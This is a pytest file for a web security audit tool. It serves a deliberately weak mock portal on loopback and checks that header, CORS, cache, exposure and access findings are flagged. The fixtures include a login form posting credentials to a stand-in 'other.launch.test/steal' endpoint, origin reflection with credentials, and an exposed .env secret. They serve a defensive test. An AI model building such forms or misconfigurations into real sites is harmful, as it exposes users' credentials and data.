"""The web areas end to end: collectors over the real network layer, a portal on loopback."""

from __future__ import annotations

import pytest
from support.web_server import Recorder, serve

from launchready.audit import run_audit
from launchready.world.ca import server_context

WEB_AREAS = ["headers", "cors", "cache", "exposure", "access"]
SITE = """[site]
url = "https://portal.launch.test"
login_url = "https://portal.launch.test/login/"
"""
BURST = "[audit]\nlogin_burst = 8\nlogin_burst_seconds = 0.5"

PAGE = """<!doctype html><html><head><title>Portal</title>
<link rel=stylesheet href=/static/app.css>
<script src=/static/app.js></script>
<script src="https://other.launch.test/tracker.js"></script></head>
<body><h1>Portal</h1></body></html>"""
LOGIN = """<html><body><form method=post action="https://other.launch.test/steal">
<input type=hidden name=csrf value=t0k3n><input name=username type=text>
<input name=password type=password></form></body></html>"""


def reflect_cors(seen):
    origin = seen.headers.get("Origin")
    headers = {
        "Content-Type": "text/html; charset=utf-8",
        "Server": "nginx/1.18.0",
        "Cache-Control": "public, max-age=600",
        "Set-Cookie": "sessionid=abc123def; Path=/",
    }
    if origin:
        headers |= {
            "Access-Control-Allow-Origin": origin,
            "Access-Control-Allow-Credentials": "true",
        }
    return 200, headers, PAGE


def weak_portal() -> Recorder:
    return Recorder(
        {
            "/": reflect_cors,
            "/static/app.js": (200, {"Content-Type": "application/javascript"}, "console.log(1)"),
            "/static/app.css": (200, {"Content-Type": "text/css"}, "h1{}"),
            "/.env": (
                200,
                {"Content-Type": "text/plain"},
                "APP_ENV=prod\nDB_PASSWORD=pa55word99\n",
            ),
            "/admin/": (200, {"Content-Type": "text/html"}, "<h1>Site administration</h1>"),
            "/login/": lambda s: (
                200,
                {"Content-Type": "text/html"},
                LOGIN if s.method == "GET" else "Invalid username or password",
            ),
        }
    )


def redirector(seen):
    return 301, {"Location": f"https://{seen.host.split(':')[0]}{seen.path}"}, b""


@pytest.fixture
def portal(ca, make_config):
    """(config, https recorder, http recorder) for a weak portal."""
    cert = ca.issue(["portal.launch.test", "other.launch.test"])
    site, plain = weak_portal(), Recorder({"*": redirector})
    with serve(site, server_context(cert)) as tls_port, serve(plain) as http_port:
        cfg = make_config(SITE, https_port=tls_port, http_port=http_port, extra=BURST)
        yield cfg, site, plain


def problems(report):
    return {f.id: f for f in report.findings if f.status in ("fail", "warn")}


def test_weak_portal_findings(portal):
    cfg, site, _plain = portal
    report = run_audit(cfg, only=WEB_AREAS)
    found = problems(report)
    for check_id in (
        "headers.grade",
        "headers.csp.missing",
        "headers.cookie.insecure",
        "headers.version-leak",
        "cors.origin-reflected",
        "cache.private-cacheable",
        "cache.static-uncached",
        "exposure.file",
        "access.admin-open",
        "access.ratelimit.missing",
    ):
        assert check_id in found, f"{check_id} missing; got {sorted(found)}"
    assert found["cors.origin-reflected"].severity == "critical"
    assert found["exposure.file"].extra["family"] == "env"
    assert "pa55word99" not in report.to_dict().__repr__()
    grade = next(f for f in report.findings if f.id == "headers.grade")
    assert grade.extra["algorithm_version"] == 6 and grade.extra["grade"] in ("D", "D-", "F")
    burst = [s for s in site.log if s.method == "POST" and s.path == "/login/"]
    assert len(burst) == 8  # bounded: exactly [audit] login_burst
    assert all(b"csrf=t0k3n" in s.body for s in burst)


def test_host_not_in_config_receives_nothing(portal):
    """The page links a script on other.launch.test and the login form posts there; connect_to
    would route that host to the same server, so any request to it would be recorded."""
    cfg, site, plain = portal
    run_audit(cfg, only=WEB_AREAS)
    assert site.hosts() | plain.hosts() == {"portal.launch.test"}
    assert not [s for s in site.log + plain.log if "other.launch.test" in s.host]


SPA = "<!doctype html><html><body><div id=root></div><script src=/main.js></script></body></html>"
TRAPS = {
    "html catch-all": lambda s: (200, {"Content-Type": "text/html"}, SPA),
    "json catch-all": lambda s: (
        200,
        {"Content-Type": "application/json"},
        '{"autodiscover": "' + s.path + '", "status": "ok"}',
    ),
    "banner": lambda s: (
        200,
        {"Content-Type": "text/plain"},
        "It looks like you are trying to access MongoDB over HTTP on the native driver port.",
    ),
    "404 with cors": lambda s: (
        404,
        {"Access-Control-Allow-Origin": "*", "Content-Type": "text/plain"},
        "[core]\nAPP_KEY=x",
    ),
}


@pytest.mark.parametrize("trap", list(TRAPS))
def test_trap_servers_yield_no_exposure_or_open_admin(trap, ca, make_config):
    cert = ca.issue(["portal.launch.test"])
    site = Recorder({"*": TRAPS[trap]})
    with serve(site, server_context(cert)) as tls_port:
        cfg = make_config('[site]\nurl = "https://portal.launch.test"', https_port=tls_port)
        report = run_audit(cfg, only=["exposure", "access"])
    bad = [
        f
        for f in report.findings
        if f.id in ("exposure.file", "exposure.debug", "access.admin-open") and f.status != "pass"
    ]
    assert bad == [], [(f.id, f.subject, f.evidence) for f in bad]
    assert len(site.log) > 100  # the scan really ran


def test_each_url_is_fetched_once_across_the_web_areas(portal):
    from collections import Counter

    cfg, site, plain = portal
    run_audit(cfg, only=[*WEB_AREAS, "http"])
    keys = Counter(
        (scheme, s.host, s.method, s.path, s.headers.get("Origin"), s.headers.get("Range"))
        for scheme, log in (("https", site.log), ("http", plain.log))
        for s in log
        if s.method != "POST"
    )
    repeated = {k: n for k, n in keys.items() if n > 1}
    # The burst's session GETs the login form once more for its own cookie jar (CSRF).
    assert set(repeated) <= {("https", "portal.launch.test", "GET", "/login/", None, None)}


def api_site(page: str) -> Recorder:
    def api(seen):
        origin = seen.headers.get("Origin")
        headers = {"Content-Type": "application/json"}
        if origin:
            headers |= {
                "Access-Control-Allow-Origin": origin,
                "Access-Control-Allow-Credentials": "true",
                "Vary": "Origin",
            }
        return 401, headers, '{"error": "authentication required"}'

    return Recorder(
        {
            "/": (200, {"Content-Type": "text/html"}, page),
            "/api/records": api,
            "/api/items": api,
        }
    )


@pytest.mark.parametrize(
    ("page", "extra"),
    [
        ("<html><script>fetch('/api/items').then(r => r.json())</script></html>", ""),
        ("<html><body>no links</body></html>", '[audit]\napi_paths = ["/api/records"]'),
    ],
    ids=["linked-from-page", "configured"],
)
def test_cors_probes_reach_api_endpoints(page, extra, ca, make_config):
    cert = ca.issue(["portal.launch.test"])
    site = api_site(page)
    with serve(site, server_context(cert)) as tls_port:
        cfg = make_config(
            '[site]\nurl = "https://portal.launch.test"', https_port=tls_port, extra=extra
        )
        report = run_audit(cfg, only=["cors"])
    (f,) = [f for f in report.findings if f.id == "cors.origin-reflected" and "/api/" in f.subject]
    assert f.status == "fail" and f.severity == "critical" and f.extra["status_code"] == 401
